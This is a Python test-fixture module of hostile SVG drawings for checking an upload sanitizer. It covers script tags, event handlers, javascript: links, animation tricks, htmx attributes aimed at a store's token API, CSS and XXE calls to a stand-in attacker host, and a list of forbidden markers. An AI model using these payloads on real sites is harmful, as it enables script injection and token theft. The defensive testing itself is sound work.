"""Hostile SVG drawings: each tries to run script, or to make the browser send a request, when a
page shows it. A payload that works sets `window.xss_<name>` or asks for a URL with `xss` in it
(on this site: /xss/<name>; elsewhere: ATTACKER); the htmx ones go for the store's tokens, as the
attack on the merchant's template editor did.

Shared by the sanitizer's unit tests (tests/test_preflight.py) and the browser test
(tests/test_xss_browser.py); a plain module, so no test module imports another.
"""

import base64

ATTACKER = "http://attacker.invalid"
# What a drawing keeps once sanitized, so a test can tell the drawing itself survived.
DRAWING = '<rect width="80" height="80" x="10" y="10" fill="#2a6"/>'
# What no sanitized copy may contain, in any payload.
FORBIDDEN = (
    "xss",
    "javascript",
    "hx-",
    "data-",
    "<script",
    "foreignObject",
    "<animate",
    "<set",
    "onbegin",
    "onload",
    "onerror",
    "onclick",
    "@import",
    "attacker.invalid",
    "data:image/svg",
    "<!ENTITY",
)


def svg(body: str, *, root: str = "", prolog: str = "") -> bytes:
    return (
        f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 100 100" width="100" height="100"{root}>{DRAWING}{body}</svg>'
    ).encode()


def _mark(name: str) -> str:
    return f"window.xss_{name}=1;fetch('/xss/{name}')"


def _nested(name: str) -> str:
    inner = svg(f"<script>{_mark(name)}</script>", root=f' onload="{_mark(name)}"')
    return base64.b64encode(inner).decode()


def payloads(store_id: str) -> dict[str, bytes]:
    """Every hostile drawing by name; those aimed at the API name `store_id`'s tokens."""
    tokens = f"/api/v1/stores/{store_id}/tokens"
    full_scope = '{"name": "xss", "scopes": ["full"]}'
    return {
        "hx_get_load": svg(
            '<g hx-get="/xss/hx_get_load" hx-trigger="load"><circle r="5" cx="5" cy="5"/></g>'
        ),
        "hx_on_before_request": svg(
            '<g hx-get="/xss/hx_on_before_request" hx-trigger="load" '
            f'hx-on--before-request="{_mark("hx_on_before_request")}"><circle r="5"/></g>'
        ),
        "hx_post_tokens": svg(
            f'<g hx-post="{tokens}" hx-vals=\'{full_scope}\' hx-trigger="load" hx-swap="none">'
            '<circle r="5"/></g>'
        ),
        "hx_attacker": svg(f'<g hx-get="{ATTACKER}/hx_attacker" hx-trigger="load"><circle r="5"/></g>'),
        "data_hx_on": svg(
            '<g data-hx-get="/xss/data_hx_on" data-hx-trigger="load" '
            f'data-hx-on--before-request="{_mark("data_hx_on")}" data-hx-on-click="{_mark("data_hx_on")}">'
            '<circle r="5"/></g>'
        ),
        "animate_onbegin": svg(
            '<rect width="5" height="5"><animate attributeName="x" from="0" to="5" dur="1s" '
            f'onbegin="{_mark("animate_onbegin")}"/></rect>'
        ),
        "set_href": svg(
            f'<a href="#"><set attributeName="href" to="javascript:{_mark("set_href")}" onbegin="'
            f'{_mark("set_href")}"/><rect width="5" height="5"/></a>'
        ),
        "animate_xlink_href": svg(
            '<a xlink:href="#"><animate attributeName="xlink:href" values="javascript:'
            f'{_mark("animate_xlink_href")}" dur="1s" onbegin="{_mark("animate_xlink_href")}"/>'
            '<rect width="5" height="5"/></a>'
        ),
        "xlink_javascript": svg(
            f'<a xlink:href="javascript:{_mark("xlink_javascript")}"><rect width="5" height="5"/></a>'
        ),
        "a_href_javascript": svg(
            f'<a href="javascript:{_mark("a_href_javascript")}"><rect width="5" height="5"/></a>'
        ),
        "style_url": svg(f"<style>rect {{ fill: url({ATTACKER}/style_url) }}</style>"),
        "style_import": svg(f"<style>@import url({ATTACKER}/style_import.css); rect {{ fill: red }}</style>"),
        "style_attribute_url": svg(
            f'<circle r="5" cx="50" cy="50" style="fill: url({ATTACKER}/style_attribute_url)"/>'
        ),
        "nested_data_svg": svg(
            f'<image href="data:image/svg+xml;base64,{_nested("nested_data_svg")}" width="10" height="10"/>'
            f'<use href="data:image/svg+xml;base64,{_nested("nested_data_svg")}#x"/>'
        ),
        "entities": svg(
            "<text>&payload;</text>",
            prolog=f'<!DOCTYPE svg [<!ENTITY payload "&lt;script&gt;{_mark("entities")}&lt;/script&gt;">]>',
        ),
        "external_entity": svg(
            "<text>&payload;</text>", prolog=f'<!DOCTYPE svg [<!ENTITY payload SYSTEM "{ATTACKER}/xxe">]>'
        ),
        "foreign_object": svg(
            '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">'
            f'<img src="/xss/foreign_object" onerror="{_mark("foreign_object")}"/>'
            f'<iframe src="{ATTACKER}/foreign_object"></iframe></body></foreignObject>'
        ),
        "script": svg(
            f'<script type="text/javascript">{_mark("script")}</script><script href="{ATTACKER}/script.js"/>'
        ),
        "event_handlers": svg(
            f'<image href="/xss/event_handlers" width="5" height="5" onerror="{_mark("event_handlers")}"/>'
            f'<circle r="5" onmouseover="{_mark("event_handlers")}" onclick="{_mark("event_handlers")}"/>',
            root=f' onload="{_mark("event_handlers")}"',
        ),
    }


# Payloads whose drawing is refused outright (the upload fails): entities are never expanded.
REFUSED = frozenset({"entities", "external_entity"})
